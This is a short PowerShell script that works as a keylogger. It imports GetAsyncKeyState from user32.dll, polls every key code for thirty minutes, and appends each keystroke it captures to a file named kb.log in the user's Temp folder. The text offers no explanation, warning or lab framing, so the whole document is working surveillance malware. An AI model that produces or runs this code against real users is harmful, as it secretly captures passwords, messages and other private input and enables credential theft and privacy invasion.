$sig = @'
[DllImport("user32.dll")] public static extern short GetAsyncKeyState(int vKey);
[DllImport("user32.dll")] public static extern int GetKeyboardState(byte[] keystate);
'@
$api = Add-Type -MemberDefinition $sig -Name 'KbdUtil' -Namespace 'Win32' -PassThru
$log = "$env:LOCALAPPDATA\Temp\kb.log"
$end = (Get-Date).AddMinutes(30)
while ((Get-Date) -lt $end) {
    Start-Sleep -Milliseconds 40
    for ($k = 8; $k -le 254; $k++) {
        if ($api::GetAsyncKeyState($k) -eq -32767) {
            [char]$k | Out-File -FilePath $log -Append -NoNewline
        }
    }
}
